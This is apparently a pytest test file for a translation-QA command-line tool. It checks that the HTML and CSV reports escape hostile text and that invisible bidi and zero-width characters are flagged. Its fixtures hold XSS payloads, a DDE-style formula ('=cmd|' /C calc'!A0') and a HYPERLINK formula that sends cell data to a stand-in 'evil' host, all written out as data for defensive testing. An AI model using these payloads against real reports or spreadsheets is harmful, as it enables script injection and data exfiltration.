"""Hostile content inside valid files, through the real command.

Script and ``javascript:`` payloads in ids, file names and texts stay inert in the HTML
report; formula cells are neutralised in the CSV report; bidi controls, zero-width
characters and soft hyphens in a target are reported by TQA112 (format.invisible) with
exact spans. The in-process formatter tests are in ``tests/report/``.
"""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from pathlib import Path

from tests.reliability.cli import tqa

ES_EN = ("-s", "es", "-l", "en")

HOSTILE = [
    {
        "id": '"><script>window.__pwned=1</script>',
        "source": "<script>alert('s')</script> Hola.",
        "target": "<script>alert('t')</script>  Hello.",  # a double space: TQA104 marks it
    },
    {
        "id": "javascript:alert(1)",
        "source": '<a href="javascript:alert(2)">enlace</a>',
        "target": '<a href="javascript:alert(2)">link</a> <img src=x onerror=alert(3)>',
    },
    {
        "id": "x' onmouseover='alert(4)",
        "source": "</textarea></td></tr></table><svg onload=alert(5)>",
        "target": "</td></tr></table><iframe src=javascript:alert(6)></iframe>",
    },
]


def write_jsonl(path: Path, rows: list[dict[str, str]]) -> Path:
    path.write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8"
    )
    return path


class Collector(HTMLParser):
    """Every tag with its attributes, and the text of each source/target cell."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.cells: list[tuple[str, str]] = []
        self._cell: str | None = None
        self._text: list[str] = []
        self._depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        classes = (dict(attrs).get("class") or "").split()
        if tag == "td" and "text" in classes:
            self._cell = "source" if "source" in classes else "target"
            self._text, self._depth = [], 0
        elif self._cell is not None:
            self._depth += 1

    def handle_endtag(self, tag: str) -> None:
        if self._cell is None:
            return
        if tag == "td" and self._depth == 0:
            self.cells.append((self._cell, "".join(self._text)))
            self._cell = None
        else:
            self._depth -= 1

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._text.append(data)


def test_html_report_keeps_hostile_text_inert(tmp_path: Path) -> None:
    hostile_dir = tmp_path / "<img src=x onerror=alert(7)>"
    hostile_dir.mkdir()
    src = write_jsonl(hostile_dir / "<svg onload=alert(8)>.jsonl", HOSTILE)
    out = tmp_path / "report.html"
    proc = tqa("check", str(src), *ES_EN, "--select", "TQA1", "-f", "html", "-o", str(out))
    assert proc.returncode == 0, proc.stderr  # one minor finding (TQA104)
    html = out.read_text(encoding="utf-8")
    page = Collector()
    page.feed(html)
    page.close()
    tags = [tag for tag, _ in page.tags]
    assert tags.count("script") == 1  # the report's own inline script, nothing injected
    assert tags.count("mark") == 1  # the highlighted double space
    assert not {"img", "iframe", "svg", "textarea"} & set(tags)
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name in ("href", "src", "action", "formaction"):
                assert value is not None and value.startswith("#"), (tag, name, value)
    # each cell reads back as exactly the segment's text: escaped, not interpreted
    expected = [(side, row[side]) for row in HOSTILE for side in ("source", "target")]
    assert page.cells == expected
    for row in HOSTILE:
        assert row["source"] not in html and row["target"] not in html
    # the file name, escaped in the title and the heading
    assert html.count("&lt;svg onload=alert(8)&gt;.jsonl") == 2
    assert "<svg onload" not in html and "<img src=x" not in html


def test_csv_report_neutralises_formula_cells(tmp_path: Path) -> None:
    rows = [
        {"id": "=cmd|' /C calc'!A0", "source": '=HYPERLINK("http://x","pulse")', "target": ""},
        {"id": "b", "source": "+1+1", "target": '=HYPERLINK("http://evil/?"&A1,"click")'},
        {"id": "c", "source": "@SUM(A1:A9)", "target": "-2+3"},
        {"id": "d", "source": "\t=1+1", "target": "\n=1+1"},
        {"id": "e", "source": "Hola = saludo.", "target": "Hello = greeting."},
    ]
    src = write_jsonl(tmp_path / "in.jsonl", rows)
    out = tmp_path / "report.csv"
    proc = tqa("check", str(src), *ES_EN, "--select", "TQA1", "-o", str(out), "-q")
    assert proc.returncode == 1, proc.stderr  # TQA101 on the empty target
    with out.open(encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    header, body = table[0], table[1:]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    by_id: dict[str, dict[str, str]] = {}
    for row in body:
        record = dict(zip(header, row, strict=True))
        by_id.setdefault(record["id"], record)
    assert list(by_id) == ["'=cmd|' /C calc'!A0", "b", "c", "d", "e"]
    assert by_id["'=cmd|' /C calc'!A0"]["source"] == '\'=HYPERLINK("http://x","pulse")'
    assert by_id["b"]["target"] == '\'=HYPERLINK("http://evil/?"&A1,"click")'
    assert (by_id["c"]["source"], by_id["c"]["target"]) == ("'@SUM(A1:A9)", "'-2+3")
    assert (by_id["d"]["source"], by_id["d"]["target"]) == ("'\t=1+1", "\n=1+1")
    # text that merely contains '=' (or starts with a line break) is left as it is
    assert (by_id["e"]["source"], by_id["e"]["target"]) == ("Hola = saludo.", "Hello = greeting.")


def test_csv_report_lone_cr_does_not_split_rows(tmp_path: Path) -> None:
    rows = [
        {"id": "a", "source": "Hola.", "target": 'Hello.\r=HYPERLINK("http://evil","x")'},
        {"id": "b", "source": "\rAdiós.", "target": "Goodbye."},
    ]
    src = write_jsonl(tmp_path / "in.jsonl", rows)
    out = tmp_path / "report.csv"
    proc = tqa("check", str(src), *ES_EN, "--select", "TQA101", "-o", str(out), "-q")
    assert proc.returncode == 0, proc.stderr
    with out.open(encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    assert [len(r) for r in table] == [12, 12, 12], table
    assert [(r[0], r[9], r[10]) for r in table[1:]] == [
        ("a", "Hola.", 'Hello.\r=HYPERLINK("http://evil","x")'),
        ("b", "'\rAdiós.", "Goodbye."),
    ]


INVISIBLE_ROWS = [
    # bidi override and isolate, RLM, ZWSP, word joiner, soft hyphen, a BOM inside the text
    {
        "id": "bidi",
        "source": "Alepo cayó.",
        "target": "Aleppo\u202e fell\u202c.\u2066x\u2069\u200f",
        "src_lang": "es",
        "tgt_lang": "en",
    },
    {
        "id": "zw",
        "source": "Idlib",
        "target": "Id\u200blib\u2060 ci\u00adty\ufeff",
        "src_lang": "es",
        "tgt_lang": "en",
    },
    # not flagged: a BOM at the very start, a character the source has too, a Persian ZWNJ
    {"id": "bom", "source": "Hola", "target": "\ufeffHello", "src_lang": "es", "tgt_lang": "en"},
    {
        "id": "same",
        "source": "a\u200bb",
        "target": "a\u200bb c",
        "src_lang": "es",
        "tgt_lang": "en",
    },
    {
        "id": "fa",
        "source": "I want",
        "target": "می\u200cخواهم",
        "src_lang": "en",
        "tgt_lang": "fa",
    },
]


def test_invisible_characters_reported_by_tqa112(tmp_path: Path) -> None:
    src = write_jsonl(tmp_path / "in.jsonl", INVISIBLE_ROWS)
    proc = tqa("check", str(src), "--select", "TQA112", "-f", "jsonl", "-q")
    assert proc.returncode == 1, proc.stderr
    results = [json.loads(line) for line in proc.stdout.splitlines()]
    found = {
        r["id"]: [(f["code"], f["target_span"], f["message"]) for f in r["findings"]]
        for r in results
    }
    label = "invisible character U+{} in the target"
    assert found == {
        "bidi": [
            ("TQA112", [6, 7], label.format("202E RIGHT-TO-LEFT OVERRIDE")),
            ("TQA112", [12, 13], label.format("202C POP DIRECTIONAL FORMATTING")),
            ("TQA112", [14, 15], label.format("2066 LEFT-TO-RIGHT ISOLATE")),
            ("TQA112", [16, 17], label.format("2069 POP DIRECTIONAL ISOLATE")),
            ("TQA112", [17, 18], label.format("200F RIGHT-TO-LEFT MARK")),
        ],
        "zw": [
            ("TQA112", [2, 3], label.format("200B ZERO WIDTH SPACE")),
            ("TQA112", [6, 7], label.format("2060 WORD JOINER")),
            ("TQA112", [10, 11], label.format("00AD SOFT HYPHEN")),
            ("TQA112", [13, 14], label.format("FEFF ZERO WIDTH NO-BREAK SPACE")),
        ],
        "bom": [],
        "same": [],
        "fa": [],
    }
    assert all(
        f["severity"] == "major" and f["suggestion"] == "" for r in results for f in r["findings"]
    )
